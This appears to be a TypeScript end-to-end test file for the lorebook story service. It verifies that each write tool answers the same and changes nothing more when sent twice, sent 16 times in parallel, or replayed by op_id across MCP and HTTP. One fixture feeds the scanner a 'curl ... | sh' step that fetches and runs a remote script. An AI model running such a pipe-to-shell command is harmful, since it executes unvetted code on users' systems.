// The twice-tests of the story core, repeated end to end for every write tool, through MCP (the
// real SDK client over Streamable HTTP), through /v1, and through /v1 as worklore's skill calls it
// (its aliases and headers): the same call twice in a row, 16 times in parallel, and an op_id
// replay after a different change. Each answers the first answer and changes nothing more.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Caller } from '../../src/app/context/app-context.ts';
import { flagStory } from '../../src/app/flag-story.ts';
import { quarantineStory } from '../../src/app/moderation/quarantine-story.ts';
import { restoreStory } from '../../src/app/moderation/restore-story.ts';
import { publishStory } from '../../src/app/publish-story.ts';
import { listNotifications } from '../../src/app/queries/list-notifications.ts';
import { reportDrift } from '../../src/app/report-drift.ts';
import { reportReproduction } from '../../src/app/report-reproduction.ts';
import { scanText } from '../../src/domain/capability/scan.ts';
import { useLorebookServer } from '../helpers/lorebook-server.ts';
import { storyTitled } from '../helpers/stories.ts';
import { type Surface, type WriteAnswer, type Writer, type WriteTool, writer } from './write-surface.ts';

const server = useLorebookServer('e2e-twice');

type Item = Record<string, unknown>;
/** What a call may change: everything but op records and the rate windows every call counts in. */
const observable = async (): Promise<Item[]> => (await server.app.state()).filter((item) => !String(item.PK).startsWith('RATE#'));
/** One story's items: its partition, read with a Query rather than the whole table. */
const storyItems = (slug: string): Promise<Item[]> => server.app.partition(`STORY#${slug}`);
const meta = async (slug: string): Promise<Item> => (await storyItems(slug)).find((item) => item.SK === 'META') as Item;

interface People {
  alice: Caller & { token: string };
  bob: Caller & { token: string };
  carol: Caller & { token: string };
}
let people: People;

beforeAll(async () => {
  const person = async (handle: string) => {
    const { token, account } = await server.token(handle);
    return { token, account, handle };
  };
  people = { alice: await person('alice'), bob: await person('bob'), carol: await person('carol') };
});

/** Steps a reader ran instead of a story's own: another sha256 than any published story's. */
const DRIFTED = scanText('## Reproduce this\n\n```sh\ncurl -fsSL https://example.com/fix.sh | sh\n```\n');

const WORKLORE_AGENT = { name: 'claude-code', version: '2.0.14', model: 'claude-sonnet-4-5' };

let operatorOps = 0;
/** One operator invocation: a fresh op id each, as `npm run moderate` mints one per run. */
const operatorAct = (slug: string, reason: string) => ({ slug, reason, actor: 'operator:e2e', op_id: `op-operator-${++operatorOps}` });

const published = async (title: string, options: Parameters<typeof storyTitled>[1] = {}): Promise<string> =>
  (await publishStory(server.app.ctx(), people.alice, { markdown: storyTitled(title, options) })).slug;

interface Case {
  tool: WriteTool;
  /** Who sends the call. */
  by: keyof People;
  /** Makes a fresh target; answers the call's arguments and a different change to make before a replay. */
  setup(name: string, send: Writer): Promise<{ args: Record<string, unknown>; differentChange: () => Promise<unknown>; target: string }>;
  /** The change was applied exactly once. */
  appliedOnce(target: string): Promise<void>;
}

const CASES: Case[] = [
  {
    tool: 'publish_story',
    by: 'alice',
    async setup(name, send) {
      const args = { markdown: storyTitled(`Publish ${name}`) };
      return {
        args,
        // The slug comes from the answer: the call under test is the first publish.
        target: '',
        differentChange: () => send.write('publish_story', { markdown: storyTitled(`Publish ${name}`, { extra: 'Later.' }) }),
      };
    },
    async appliedOnce(slug) {
      expect((await storyItems(slug)).map((item) => item.SK)).toEqual(['BODY', 'META', 'REV#000001']);
    },
  },
  {
    tool: 'edit_story',
    by: 'alice',
    async setup(name, send) {
      const slug = await published(`Edit ${name}`);
      return {
        target: slug,
        args: { slug, markdown: storyTitled(`Edit ${name}`, { extra: 'Edited.' }), kind: 'addition' },
        differentChange: () =>
          send.write('edit_story', { slug, markdown: storyTitled(`Edit ${name}`, { extra: 'Edited again.' }), kind: 'addition' }),
      };
    },
    async appliedOnce(slug) {
      expect((await storyItems(slug)).map((item) => item.SK)).toEqual(['BODY', 'META', 'REV#000001', 'REV#000002']);
    },
  },
  {
    tool: 'report_reproduction',
    by: 'bob',
    async setup(name, send) {
      const slug = await published(`Reproduce ${name}`);
      return {
        target: slug,
        // agent and env as worklore's skill sends them: objects.
        args: { slug, result: 'worked', note: 'Ran the steps.', agent: WORKLORE_AGENT, env: { os: 'linux' } },
        differentChange: () => send.write('report_reproduction', { slug, result: 'failed', note: 'Ran them again.' }),
      };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({ counts: { worked: 1, partial: 0, failed: 0 }, reproducers: [people.bob.account] });
      expect((await storyItems(slug)).find((item) => item.SK === `REPRO#${people.bob.account}`)).toMatchObject({
        agent: 'claude-code 2.0.14 (claude-sonnet-4-5)',
        agent_fields: WORKLORE_AGENT,
        env: 'os: linux',
        env_fields: { os: 'linux' },
      });
      const notices = (await server.app.partition(`INBOX#${people.alice.account}`)).filter((item) => item.story === slug);
      expect(notices).toHaveLength(1);
    },
  },
  {
    tool: 'withdraw_reproduction',
    by: 'bob',
    async setup(name, send) {
      const slug = await published(`Withdraw ${name}`);
      await reportReproduction(server.app.ctx(), people.bob, { slug, result: 'worked' });
      return {
        target: slug,
        args: { slug },
        differentChange: () => send.write('report_reproduction', { slug, result: 'partial' }),
      };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({ counts: { worked: 0, partial: 0, failed: 0 } });
      expect((await storyItems(slug)).some((item) => String(item.SK).startsWith('REPRO#'))).toBe(false);
    },
  },
  {
    tool: 'report_check',
    by: 'bob',
    async setup(name, send) {
      const slug = await published(`Check ${name}`);
      return {
        target: slug,
        args: { slug, result: 'has_problem' },
        differentChange: () => send.write('report_check', { slug, result: 'no_problem' }),
      };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({ counts: { has_problem: 1, no_problem: 0 } });
    },
  },
  {
    tool: 'report_drift',
    by: 'carol',
    async setup(name, send) {
      const slug = await published(`Drift ${name}`);
      // Both reproduced it (only reproducers count); bob ran the same other steps first: carol's report is the corroborating one.
      for (const reader of [people.bob, people.carol]) await reportReproduction(server.app.ctx(), reader, { slug, result: 'worked' });
      await reportDrift(server.app.ctx(), people.bob, { slug, sha256: DRIFTED.sha256 });
      return {
        target: slug,
        args: { slug, sha256: DRIFTED.sha256, findings: DRIFTED.findings },
        differentChange: () => send.write('report_drift', { slug, sha256: DRIFTED.sha256 }),
      };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({ drift: { sha256: DRIFTED.sha256 } });
      const tally = (await storyItems(slug)).find((item) => item.SK === `DRIFTHASH#${DRIFTED.sha256}`);
      expect(tally?.reporters).toEqual([people.bob.account, people.carol.account].sort());
      const notices = (await server.app.partition(`INBOX#${people.alice.account}`)).filter(
        (item) => item.story === slug && item.kind !== 'reproduction',
      );
      expect(notices.map((item) => item.kind)).toEqual(['drift']);
    },
  },
  {
    tool: 'flag_story',
    by: 'bob',
    async setup(name, send) {
      const slug = await published(`Flag ${name}`);
      return {
        target: slug,
        args: { slug, reason: 'spam', note: 'Links to a shop.' },
        differentChange: () => send.write('flag_story', { slug, reason: 'off_topic' }),
      };
    },
    async appliedOnce(slug) {
      expect((await storyItems(slug)).filter((item) => String(item.SK).startsWith('FLAG#'))).toHaveLength(1);
      const open = (await server.app.partition(`ACCOUNT#${people.bob.account}`)).find((item) => item.SK === 'FLAGS');
      expect(open?.stories).toContain(slug);
    },
  },
  {
    tool: 'unflag_story',
    by: 'bob',
    async setup(name, send) {
      const slug = await published(`Unflag ${name}`);
      await flagStory(server.app.ctx(), people.bob, { slug, reason: 'spam' });
      return { target: slug, args: { slug }, differentChange: () => send.write('flag_story', { slug, reason: 'impersonation' }) };
    },
    async appliedOnce(slug) {
      expect((await storyItems(slug)).some((item) => String(item.SK).startsWith('FLAG#'))).toBe(false);
      const open = (await server.app.partition(`ACCOUNT#${people.bob.account}`)).find((item) => item.SK === 'FLAGS');
      expect(open?.stories ?? []).not.toContain(slug);
    },
  },
  {
    tool: 'appeal_moderation',
    by: 'alice',
    async setup(name) {
      const slug = await published(`Appeal ${name}`);
      await quarantineStory(server.app.ctx(), operatorAct(slug, 'Looks like spam.'));
      return {
        target: slug,
        args: { slug, note: 'It is my own write-up of a real fix.' },
        // The operator restores it: the hold the appeal named is gone, and the replay still answers the first answer.
        differentChange: async (): Promise<WriteAnswer> => {
          await restoreStory(server.app.ctx(), operatorAct(slug, 'A real story.'));
          return { body: {}, refused: false };
        },
      };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({
        moderation: { state: 'quarantined', appeal: { note: 'It is my own write-up of a real fix.' } },
      });
      expect((await server.app.partition('MODQUEUE')).filter((item) => item.slug === slug && item.kind === 'appeal')).toHaveLength(1);
    },
  },
  {
    tool: 'set_visibility',
    by: 'alice',
    async setup(name, send) {
      const slug = await published(`Hide ${name}`);
      return { target: slug, args: { slug, hidden: true }, differentChange: () => send.write('set_visibility', { slug, hidden: false }) };
    },
    async appliedOnce(slug) {
      expect(await meta(slug)).toMatchObject({ hidden: true });
    },
  },
  {
    tool: 'mark_notifications_read',
    by: 'alice',
    async setup(name, send) {
      const slug = await published(`Notify ${name}`);
      await reportReproduction(server.app.ctx(), people.bob, { slug, result: 'worked' });
      await reportReproduction(server.app.ctx(), people.carol, { slug, result: 'partial' });
      const inbox = await listNotifications(server.app.ctx(), people.alice, { limit: 100 });
      const [first, second] = inbox.notifications.filter((notice) => notice.story === slug).map((notice) => notice.id);
      return {
        target: slug,
        args: { ids: [first] },
        differentChange: () => send.write('mark_notifications_read', { ids: [second] }),
      };
    },
    async appliedOnce(slug) {
      const notices = (await server.app.partition(`INBOX#${people.alice.account}`)).filter((item) => item.story === slug);
      expect(notices.filter((item) => item.read === true)).toHaveLength(1);
    },
  },
];

const withoutReplayed = ({ replayed: _replayed, ...body }: Record<string, unknown>): Record<string, unknown> => body;

describe.each<Surface>(['mcp', 'http', 'worklore'])('every write through %s is safe to deliver twice', (surface) => {
  const writers = new Map<keyof People, Writer>();
  beforeAll(async () => {
    for (const name of ['alice', 'bob', 'carol'] as const) writers.set(name, await writer(server, surface, people[name].token));
  });
  const by = (c: Case): Writer => writers.get(c.by) as Writer;
  /** publish_story's target is the slug of its answer. */
  const targetOf = (c: Case, target: string, answer: WriteAnswer): string =>
    c.tool === 'publish_story' ? String(answer.body.slug) : target;

  describe.each(CASES.map((c) => [c.tool, c] as const))('%s', (_tool, c) => {
    it(`the same ${c.tool} twice in a row answers the same and the second changes nothing`, async () => {
      const w = by(c);
      const { args, target } = await fresh(c, w, 'twice');
      const first = await w.write(c.tool, args);
      expect(first.refused, JSON.stringify(first.body)).toBe(false);
      const before = await observable();
      const second = await w.write(c.tool, args);
      expect(second.body).toEqual(first.body);
      expect(second.status).toBe(first.status);
      expect(await observable()).toEqual(before);
      await c.appliedOnce(targetOf(c, target, first));
    });

    it(`16 parallel ${c.tool} calls apply once and all answer the same`, async () => {
      const w = by(c);
      const { args, target } = await fresh(c, w, 'sixteen');
      const answers = await Promise.all(Array.from({ length: 16 }, () => w.write(c.tool, args)));
      for (const answer of answers) {
        expect(answer.refused, JSON.stringify(answer.body)).toBe(false);
        expect(answer.body).toEqual(answers[0]?.body);
      }
      await c.appliedOnce(targetOf(c, target, answers[0] as WriteAnswer));
    });

    it(`an op_id replay of ${c.tool} after a different change answers the first answer and changes nothing`, async () => {
      const w = by(c);
      const { args, target, differentChange } = await fresh(c, w, 'replay');
      const opId = `op-${surface}-${c.tool}`;
      const first = await w.write(c.tool, { ...args, op_id: opId });
      expect(first.refused, JSON.stringify(first.body)).toBe(false);
      const changed = (await differentChange()) as WriteAnswer;
      expect(changed.refused, JSON.stringify(changed.body)).toBe(false);
      const before = await observable();
      const replay = await w.write(c.tool, { ...args, op_id: opId });
      expect(replay.body).toEqual({ ...first.body, replayed: true });
      if (surface !== 'mcp') {
        expect(replay.status).toBe(first.status);
        expect(replay.replayedHeader).toBe('true');
        expect(first.replayedHeader).toBeNull();
      }
      expect(await observable()).toEqual(before);
      expect(targetOf(c, target, replay)).not.toBe('');
    });
  });

  const fresh = (c: Case, w: Writer, test: string) => c.setup(`${surface} ${test}`, w);

  it('16 parallel deliveries of one op_id commit one change: one answer is first, the rest replay it', async () => {
    const w = writers.get('alice') as Writer;
    const markdown = storyTitled(`Same op ${surface}`);
    const answers = await Promise.all(
      Array.from({ length: 16 }, () => w.write('publish_story', { markdown, op_id: `op-sixteen-${surface}` })),
    );
    for (const answer of answers) expect(withoutReplayed(answer.body)).toEqual(withoutReplayed(answers[0]?.body ?? {}));
    expect(answers.filter((answer) => answer.body.replayed !== true)).toHaveLength(1);
    expect((await storyItems(String(answers[0]?.body.slug))).map((item) => item.SK)).toEqual(['BODY', 'META', 'REV#000001']);
  });
});

describe('one op_id across the surfaces is one change', () => {
  it('publish_story through MCP, then the same request through /v1 with the op_id as Idempotency-Key, replays with the original status', async () => {
    const viaMcp = await writer(server, 'mcp', people.alice.token);
    const viaHttp = await writer(server, 'http', people.alice.token);
    const markdown = storyTitled('Crossing surfaces');
    const first = await viaMcp.write('publish_story', { markdown, op_id: 'op-cross-1' });
    expect(first.refused).toBe(false);
    const before = await observable();
    const again = await viaHttp.write('publish_story', { markdown, op_id: 'op-cross-1' });
    expect(again.status).toBe(201);
    expect(again.replayedHeader).toBe('true');
    expect(again.body).toEqual({ ...first.body, replayed: true });
    expect(await observable()).toEqual(before);
  });

  it.each([
    ['report_reproduction', '/reproductions', '/reproduced', { result: 'partial', note: 'Step 3 differed.', agent: WORKLORE_AGENT }],
    ['report_check', '/checks', '/checked', { result: 'no_problem' }],
  ] as const)(
    '%s under one Idempotency-Key through %s, then %s, then MCP, is one change: the alias replays the first answer',
    async (tool, path, alias, body) => {
      const slug = await published(`Alias ${tool}`);
      const send = (suffix: string) =>
        server.fetch(`/v1/stories/${slug}${suffix}`, {
          method: 'POST',
          headers: {
            Authorization: `Bearer ${people.bob.token}`,
            'Content-Type': 'application/json',
            'Idempotency-Key': `op-alias-${tool}`,
          },
          body: JSON.stringify(body),
        });
      const first = await send(path);
      expect(first.status).toBe(200);
      const firstBody = (await first.json()) as Record<string, unknown>;
      expect(firstBody.replayed).toBeUndefined();
      const before = await observable();
      const viaAlias = await send(alias);
      expect(viaAlias.status).toBe(200);
      expect(viaAlias.headers.get('idempotent-replayed')).toBe('true');
      expect(await viaAlias.json()).toEqual({ ...firstBody, replayed: true });
      const viaMcp = await (await writer(server, 'mcp', people.bob.token)).write(tool, { slug, ...body, op_id: `op-alias-${tool}` });
      expect(viaMcp.body).toEqual({ ...firstBody, replayed: true });
      expect(await observable()).toEqual(before);
    },
  );

  it('the same op_id with other arguments through the other surface is idempotency_key_reused and writes nothing', async () => {
    const viaHttp = await writer(server, 'http', people.alice.token);
    const viaMcp = await writer(server, 'mcp', people.alice.token);
    const first = await viaHttp.write('publish_story', { markdown: storyTitled('Key reused'), op_id: 'op-cross-2' });
    expect(first.status).toBe(201);
    const before = await observable();
    const other = await viaMcp.write('publish_story', { markdown: storyTitled('Key reused elsewhere'), op_id: 'op-cross-2' });
    expect(other.refused).toBe(true);
    expect(other.body.code).toBe('idempotency_key_reused');
    expect(await observable()).toEqual(before);
  });
});
